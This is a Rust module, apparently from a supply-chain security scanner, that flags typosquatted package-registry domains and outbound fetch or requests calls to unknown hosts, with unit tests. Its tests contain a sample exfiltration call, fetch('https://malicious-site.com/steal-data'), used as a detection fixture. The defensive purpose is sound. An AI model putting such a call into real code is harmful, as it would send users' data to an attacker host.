//! URL host classification for network rules.
//!
//! Two structural checks live here: typosquat detection against
//! well-known package-registry domains, and the known-host lookup used
//! to flag outbound calls to unrecognized hosts. Known-host data is
//! externalized to `data/known-hosts.json` and embedded at compile time
//! via `include_str!()`.

use regex::Regex;
use serde::Deserialize;
use std::sync::LazyLock;

const KNOWN_HOSTS_JSON: &str = include_str!("../../data/known-hosts.json");

/// Registry and ecosystem domains attackers typosquat. The brand is the
/// first label; `npmjs.help` squats `npmjs.com` by reusing the brand
/// under a different TLD.
const REGISTRY_DOMAINS: &[&str] = &[
    "npmjs.com",
    "npmjs.org",
    "github.com",
    "githubusercontent.com",
    "pypi.org",
    "pythonhosted.org",
    "crates.io",
    "rubygems.org",
    "nodejs.org",
];

/// URL extraction: captures the host and optional path.
static URL_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"https?://([A-Za-z0-9._-]+)(/[^\s|"')\]>`]*)?"#).expect("URL regex")
});

/// Outbound call sites with a literal URL argument.
static CALL_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"\b(?:fetch|got|axios(?:\.(?:get|post|put|delete|request))?|request|urlopen|requests\.(?:get|post|request)|https?\.(?:get|request))\s*\(\s*['"`](https?://[^'"`]+)['"`]"#,
    )
    .expect("call regex")
});

#[derive(Debug, Deserialize)]
struct KnownHostFile {
    hosts: Vec<KnownHost>,
}

/// A host the outbound-call rule treats as unremarkable.
#[derive(Debug, Clone, Deserialize)]
struct KnownHost {
    host: String,
    #[allow(dead_code)]
    purpose: String,
}

static KNOWN_HOSTS: LazyLock<Vec<KnownHost>> = LazyLock::new(|| {
    let file: KnownHostFile =
        serde_json::from_str(KNOWN_HOSTS_JSON).expect("Failed to parse known-hosts.json");
    file.hosts
});

/// A URL found in scanned text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UrlMatch {
    pub start: usize,
    pub end: usize,
    pub host: String,
}

/// All URLs in `text`, in leftmost order.
pub fn find_urls(text: &str) -> Vec<UrlMatch> {
    URL_RE
        .captures_iter(text)
        .filter_map(|cap| {
            let whole = cap.get(0)?;
            let host = cap.get(1)?.as_str().to_ascii_lowercase();
            Some(UrlMatch {
                start: whole.start(),
                end: whole.end(),
                host,
            })
        })
        .collect()
}

/// URLs appearing as the literal argument of an outbound call
/// (`fetch(...)`, `requests.get(...)`, and similar).
pub fn find_outbound_calls(text: &str) -> Vec<UrlMatch> {
    CALL_RE
        .captures_iter(text)
        .filter_map(|cap| {
            let whole = cap.get(0)?;
            let url = cap.get(1)?.as_str();
            let host = URL_RE
                .captures(url)
                .and_then(|c| c.get(1))
                .map(|m| m.as_str().to_ascii_lowercase())?;
            Some(UrlMatch {
                start: whole.start(),
                end: whole.end(),
                host,
            })
        })
        .collect()
}

/// Whether `host` is one of the embedded known hosts (or a subdomain of
/// one).
pub fn is_known_host(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    KNOWN_HOSTS
        .iter()
        .any(|k| host == k.host || host.ends_with(&format!(".{}", k.host)))
}

/// If `host` typosquats a registry domain, returns the domain it
/// imitates. Legitimate registry hosts and their subdomains return None.
pub fn typosquat_of(host: &str) -> Option<&'static str> {
    let host = host.to_ascii_lowercase();

    // Exact hosts and subdomains of real registries are legitimate.
    for &domain in REGISTRY_DOMAINS {
        if host == domain || host.ends_with(&format!(".{}", domain)) {
            return None;
        }
    }
    if is_known_host(&host) {
        return None;
    }

    let labels: Vec<&str> = host.split('.').collect();
    // Second-level label, the part attackers vary: "gihub" in gihub.com.
    let sld = if labels.len() >= 2 {
        labels[labels.len() - 2]
    } else {
        labels.first().copied().unwrap_or("")
    };

    for &domain in REGISTRY_DOMAINS {
        let brand = domain.split('.').next().unwrap_or(domain);

        // Brand reused under a different TLD or as a subdomain label.
        if labels.iter().any(|l| *l == brand) {
            return Some(domain);
        }

        // One edit away from the brand itself.
        if !sld.is_empty() && levenshtein(sld, brand) == 1 {
            return Some(domain);
        }
    }

    None
}

/// Levenshtein distance, two-row algorithm.
fn levenshtein(a: &str, b: &str) -> usize {
    let a_chars: Vec<char> = a.chars().collect();
    let b_chars: Vec<char> = b.chars().collect();

    let a_len = a_chars.len();
    let b_len = b_chars.len();

    if a_len == 0 {
        return b_len;
    }
    if b_len == 0 {
        return a_len;
    }

    let mut prev = (0..=b_len).collect::<Vec<_>>();
    let mut curr = vec![0; b_len + 1];

    for i in 1..=a_len {
        curr[0] = i;
        for j in 1..=b_len {
            let cost = if a_chars[i - 1] == b_chars[j - 1] { 0 } else { 1 };
            curr[j] = (prev[j] + 1)
                .min(curr[j - 1] + 1)
                .min(prev[j - 1] + cost);
        }
        std::mem::swap(&mut prev, &mut curr);
    }

    prev[b_len]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_known_hosts_load() {
        assert!(KNOWN_HOSTS.len() >= 10);
        assert!(is_known_host("registry.npmjs.org"));
        assert!(is_known_host("localhost"));
        assert!(!is_known_host("malicious-site.com"));
    }

    #[test]
    fn test_subdomain_of_known_host() {
        assert!(is_known_host("api.github.com"));
    }

    #[test]
    fn test_typosquat_brand_under_other_tld() {
        assert_eq!(typosquat_of("npmjs.help"), Some("npmjs.com"));
        assert_eq!(typosquat_of("support.npmjs.help"), Some("npmjs.com"));
    }

    #[test]
    fn test_typosquat_one_edit() {
        assert_eq!(typosquat_of("gihub.com"), Some("github.com"));
        assert_eq!(typosquat_of("pypl.org"), Some("pypi.org"));
    }

    #[test]
    fn test_legitimate_hosts_pass() {
        assert_eq!(typosquat_of("npmjs.com"), None);
        assert_eq!(typosquat_of("registry.npmjs.org"), None);
        assert_eq!(typosquat_of("raw.githubusercontent.com"), None);
        assert_eq!(typosquat_of("malicious-site.com"), None);
    }

    #[test]
    fn test_find_urls() {
        let urls = find_urls("see https://npmjs.help/support and http://1.2.3.4/x");
        assert_eq!(urls.len(), 2);
        assert_eq!(urls[0].host, "npmjs.help");
        assert_eq!(urls[1].host, "1.2.3.4");
    }

    #[test]
    fn test_find_outbound_calls() {
        let text = r#"fetch('https://malicious-site.com/steal-data');"#;
        let calls = find_outbound_calls(text);
        assert_eq!(calls.len(), 1);
        assert_eq!(calls[0].host, "malicious-site.com");

        // A bare URL in a comment is not a call site.
        let calls = find_outbound_calls("// https://malicious-site.com/steal-data");
        assert!(calls.is_empty());
    }

    #[test]
    fn test_levenshtein() {
        assert_eq!(levenshtein("github", "gihub"), 1);
        assert_eq!(levenshtein("npmjs", "npmjs"), 0);
        assert_eq!(levenshtein("", "abc"), 3);
    }
}
